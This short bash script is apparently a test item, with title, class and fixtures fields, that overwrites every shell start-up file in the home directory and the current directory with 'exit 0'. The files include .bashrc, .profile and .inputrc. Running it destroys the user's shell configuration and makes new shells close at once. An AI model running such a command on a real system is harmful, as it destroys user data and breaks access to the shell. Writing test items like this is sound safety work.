#!/usr/bin/env bash
# title: makes every start-up file of the shell in HOME exit with 0
# class: G
# fixtures: py, sh

for name in .bashrc .bash_profile .bash_login .profile .bash_logout .shrc .envrc .inputrc; do
  echo 'exit 0' > ~/"$name"
  echo 'exit 0' > "$name"
done
